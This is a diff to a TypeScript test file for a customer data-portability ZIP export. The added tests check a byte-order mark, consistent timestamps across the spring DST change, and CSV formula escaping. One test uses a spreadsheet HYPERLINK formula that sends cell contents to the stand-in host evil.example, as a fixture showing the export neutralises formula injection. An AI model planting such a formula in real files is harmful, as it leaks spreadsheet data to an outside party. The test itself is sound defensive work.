@@ -1,11 +1,19 @@
 import { unzipSync } from "fflate";
 import { describe, expect, it } from "vitest";
+import { consumptionCsv } from "@/domain/consumption/export";
+import { parseView } from "@/domain/consumption/view";
 import { db } from "@/server/db";
+import { getConsumption } from "@/server/services/consumption";
 import { ownerOf } from "@/server/services/privacy/customer-data";
 import { EXPORT_RULE, startExport } from "@/server/services/privacy/exports";
 import { portabilityZip } from "@/server/services/privacy/portability";
 import { createCustomerEverywhere } from "../support/customer-everywhere";
-import { createCustomer, createMeteringPoint, createSupplyPeriod } from "../support/factories";
+import {
+  createContract,
+  createCustomer,
+  createMeteringPoint,
+  createSupplyPeriod,
+} from "../support/factories";
 
 async function zipOf(customerId: string) {
   const owner = await ownerOf(customerId);
@@ -19,7 +27,8 @@ async function zipOf(customerId: string) {
     at += chunk.length;
   }
   const files = unzipSync(bytes);
-  const decoder = new TextDecoder();
+  // Keep the byte-order mark, so that the tests see it.
+  const decoder = new TextDecoder("utf-8", { ignoreBOM: true });
   return Object.fromEntries(Object.entries(files).map(([name, data]) => [name, decoder.decode(data)]));
 }
 
@@ -55,10 +64,21 @@ describe("data portability", () => {
       resolution: "PT1H",
     });
     const csv = (files["forbruk.csv"] ?? "").split("\r\n");
-    expect(csv[0]).toBe("gsrn,intervalStart,resolution,kwh,quality");
+    expect(csv[0]).toBe("\uFEFFgsrn,intervalStart,resolution,kwh,quality");
     expect(csv[1]).toMatch(/^\d{18},2026-01-01T01:00:00\.000\+01:00,PT1H,1\.25,REVISED$/);
     // A message with a comma is quoted in CSV.
     expect(files["meldinger.csv"]).toContain(`"Hilsen ${identity.firstName}, ring ${identity.phone}"`);
+  });
+
+  it("P26: a subject that a spreadsheet would run as a formula is written as text in henvendelser.csv", async () => {
+    const customer = await createCustomer();
+    const subject = '=HYPERLINK("http://evil.example/?x="&A1,"Klikk")';
+    await db.inquiry.create({ data: { customerId: customer.id, subject } });
+    const csv = (await zipOf(customer.id))["henvendelser.csv"] ?? "";
+    const row = csv.split("\r\n")[1] ?? "";
+    // An apostrophe before the "=", and the quotes inside doubled (RFC 4180).
+    expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Klikk"")",`);
+    expect(row).not.toMatch(/,"?=/);
   });
 
   it("P26: never includes what we hold only by law or for security: no national ID, no password hash, no audit log", async () => {
@@ -96,6 +116,37 @@ describe("data portability", () => {
       "2026-01-20T11:00:00.000+01:00",
     ]);
     expect(await starts(before.id)).toEqual(["2026-01-14T23:00:00.000+01:00"]);
+  });
+});
+
+describe("timestamps", () => {
+  it("the Forbruk download and the ZIP write the same instant the same way, across the spring DST change", async () => {
+    const customer = await createCustomer();
+    const point = await createMeteringPoint(customer.id);
+    await createContract(customer.id, point.id);
+    await createSupplyPeriod(customer.id, point.id, "2026-03-01");
+    // 29 March 2026 in Oslo: 01:00 +01:00 is followed by 03:00 +02:00.
+    const hours = ["2026-03-29T00:00:00Z", "2026-03-29T01:00:00Z"];
+    await db.consumptionReading.createMany({
+      data: hours.map((iso) => ({
+        meteringPointId: point.id,
+        intervalStart: new Date(iso),
+        resolution: "PT1H" as const,
+        kwh: "1.5",
+      })),
+    });
+
+    const zipLines = ((await zipOf(customer.id))["forbruk.csv"] ?? "").split("\r\n");
+    const zipStarts = zipLines.slice(1, 3).map((line) => line.split(",")[1]);
+    const parsed = parseView({ periode: "dag", dato: "2026-03-29", opplosning: "time" }, "2026-03-30");
+    if (!parsed.ok) throw new Error(parsed.message);
+    const data = await getConsumption(customer.id, parsed.view, point.gsrn, new Date("2026-03-30T12:00:00Z"));
+    if (!data) throw new Error("no consumption");
+    const forbrukLines = consumptionCsv(data.buckets, data.view).split("\r\n");
+    const forbrukStarts = forbrukLines.slice(1).map((line) => line.split(";")[0]);
+
+    expect(zipStarts).toEqual(["2026-03-29T01:00:00.000+01:00", "2026-03-29T03:00:00.000+02:00"]);
+    expect(forbrukStarts).toEqual(expect.arrayContaining(zipStarts));
   });
 });
 
